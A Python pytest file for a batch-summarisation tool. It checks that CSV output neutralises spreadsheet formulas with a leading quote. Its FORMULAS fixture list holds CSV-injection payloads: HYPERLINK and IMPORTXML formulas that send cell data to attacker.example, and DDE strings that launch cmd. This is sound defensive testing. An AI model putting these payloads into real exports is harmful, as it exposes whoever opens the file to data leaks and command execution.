"""The CSV formula rule: a summary or message that a spreadsheet would run is written to CSV with a
leading quote (DatasetOutput and the notebook app's Save CSV), kept as it came in Parquet and JSON
Lines and with ``raw_csv=True``. Crafted RowResults written through DatasetOutput, read back with
the csv module (what a program reading the file sees)."""

from __future__ import annotations

import csv
import json

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from batchsum.data.csvsafe import neutralize, neutralize_frame
from batchsum.data.datasets import DatasetOutput
from batchsum.data.results import RowResult, result_columns

# Twelve shapes of a formula as a spreadsheet takes it; each starts with one of = + - @ tab CR.
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://attacker.example/?leak="&A1, "Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "=cmd|' /C notepad'!'A1'",
    '=IMPORTXML(CONCAT("http://attacker.example/?v=", A2), "//a")',
    "+1+1",
    "-1-1+cmd|' /C calc'!A0",
    '@HYPERLINK("http://attacker.example", "x")',
]
DANGEROUS = "=+-@\t\r"


def results(summaries, messages=None):
    messages = messages or [None] * len(summaries)
    return [RowResult(s, "ok", None, m, 200, 1) for s, m in zip(summaries, messages)]


def write(path, summaries, messages=None, **kwargs):
    batch = pa.record_batch({"id": [f"r{i}" for i in range(len(summaries))]})
    output = DatasetOutput(str(path), batch.schema, **kwargs)
    output.write(batch, results(summaries, messages))
    output.commit()


def read_csv(path):
    with open(path, newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


def test_every_formula_shape_is_quoted_in_csv(tmp_path):
    write(tmp_path / "out.csv", FORMULAS, messages=FORMULAS)
    rows = read_csv(tmp_path / "out.csv")
    assert [row["summary"] for row in rows] == ["'" + f for f in FORMULAS]
    assert [row["summary_message"] for row in rows] == ["'" + f for f in FORMULAS]
    assert all(row["summary_status"] == "ok" for row in rows)  # our own columns as they are


def test_raw_csv_keeps_the_cells_as_they_came(tmp_path):
    write(tmp_path / "out.csv", FORMULAS, messages=FORMULAS, raw_csv=True)
    rows = read_csv(tmp_path / "out.csv")
    assert [row["summary"] for row in rows] == FORMULAS
    assert [row["summary_message"] for row in rows] == FORMULAS


def test_parquet_and_jsonl_keep_the_text_as_it_came(tmp_path):
    write(tmp_path / "out.parquet", FORMULAS, messages=FORMULAS)
    table = pq.read_table(tmp_path / "out.parquet")
    assert table.column("summary").to_pylist() == FORMULAS
    assert table.column("summary_message").to_pylist() == FORMULAS
    write(tmp_path / "out.jsonl", FORMULAS, messages=FORMULAS)
    lines = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()]
    assert [line["summary"] for line in lines] == FORMULAS
    assert [line["summary_message"] for line in lines] == FORMULAS


def test_input_columns_are_the_users_and_kept(tmp_path):
    batch = pa.record_batch({"text": ["=1+1", "-5 degrees"]})
    output = DatasetOutput(str(tmp_path / "out.csv"), batch.schema, output_column="gist")
    output.write(batch, results(["=2+2", None], [None, "@x"]))
    output.commit()
    rows = read_csv(tmp_path / "out.csv")
    assert [row["text"] for row in rows] == ["=1+1", "-5 degrees"]
    assert [row["gist"] for row in rows] == ["'=2+2", ""]  # a missing summary stays empty
    assert [row["gist_message"] for row in rows] == ["", "'@x"]


# Text Arrow can hold (no lone surrogates) that a CSV round trip keeps (no NUL).
TEXT = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=30)


@settings(max_examples=60, deadline=None)
@given(
    summaries=st.lists(
        st.one_of(st.none(), TEXT, st.builds(lambda c, rest: c + rest, st.sampled_from(DANGEROUS), TEXT)),
        min_size=1,
        max_size=12,
    ),
    raw=st.booleans(),
)
def test_a_cell_is_quoted_exactly_when_it_starts_like_a_formula(tmp_path_factory, summaries, raw):
    path = tmp_path_factory.mktemp("csv") / "out.csv"
    write(path, summaries, messages=summaries, raw_csv=raw)
    rows = read_csv(path)
    for summary, row in zip(summaries, rows, strict=True):
        expected = summary or ""
        if not raw and expected[:1] in set(DANGEROUS):
            expected = "'" + expected
        assert row["summary"] == expected
        assert row["summary_message"] == expected
        assert raw or row["summary"][:1] not in set(DANGEROUS)


def test_neutralize_keeps_nulls_and_chunks():
    chunked = pa.chunked_array([["=a", None], ["b", "\tc"]])
    assert neutralize(chunked).to_pylist() == ["'=a", None, "b", "'\tc"]


def test_neutralize_frame_changes_only_the_named_text_columns():
    frame = pd.DataFrame(
        {
            "text": ["=1", "+2"],
            "summary": pd.array(["=3", None], dtype="string"),
            "note": ["@4", 5],
            "n": [1, 2],
        }
    )
    safe = neutralize_frame(frame, ["summary", "note", "n"])
    assert safe["text"].tolist() == ["=1", "+2"]
    assert safe["summary"].dtype == frame["summary"].dtype and safe["summary"].tolist() == ["'=3", pd.NA]
    assert safe["note"].tolist() == ["@4", 5]  # not all text: left alone
    assert safe["n"].tolist() == [1, 2]
    assert frame["summary"].tolist() == ["=3", pd.NA]  # the frame itself is not changed


def test_the_notebook_apps_save_csv_quotes_formulas(tmp_path, monkeypatch):
    pytest.importorskip("ipywidgets")
    from batchsum.widgets import ResultTable

    frame = pd.DataFrame({"body": ["=SUM(1)", "text"]})
    rows = results(["=1+1", "plain"], ["-x", None])
    columns = dict(zip(result_columns(), zip(*rows)))
    result = frame.assign(**{name: pd.array(list(values)) for name, values in columns.items()})
    table = ResultTable(frame)
    table.show(rows, "ok", result)
    monkeypatch.chdir(tmp_path)
    table.path.value = "out"
    table.save_csv.click()
    back = read_csv(tmp_path / "out.csv")
    assert [row["body"] for row in back] == ["=SUM(1)", "text"]  # the user's own column
    assert [row["summary"] for row in back] == ["'=1+1", "plain"]
    assert [row["summary_message"] for row in back] == ["'-x", ""]
    table.save_parquet.click()
    assert pd.read_parquet(tmp_path / "out.parquet")["summary"].tolist() == ["=1+1", "plain"]


def test_the_cli_quotes_formula_summaries_in_csv_and_keeps_them_with_raw_csv(env, tmp_path):
    """Every sentence of the input starts with "=", so every summary does: the CSV output has them
    quoted; with --raw-csv, as they came."""
    from batchsum.cli import main

    text = " ".join(f"=SUM(A{i}) is what the finance team types in cell B{i} every single morning." for i in range(8))
    pd.DataFrame({"text": [text, text + " =1+1 closes it."]}).to_parquet(tmp_path / "in.parquet")
    for flags, quoted in [([], True), (["--raw-csv"], False)]:
        out = tmp_path / f"out{len(flags)}.csv"
        argv = ["summarize", str(tmp_path / "in.parquet"), "-o", str(out), "--column", "text", "--rpm", "0"]
        assert main([*argv, "--quiet", *flags]) == 0
        with open(out, newline="") as file:
            rows = list(csv.DictReader(file))
        assert [row["summary_status"] for row in rows] == ["ok", "ok"]
        assert all(row["summary"].startswith("'=" if quoted else "=") for row in rows)
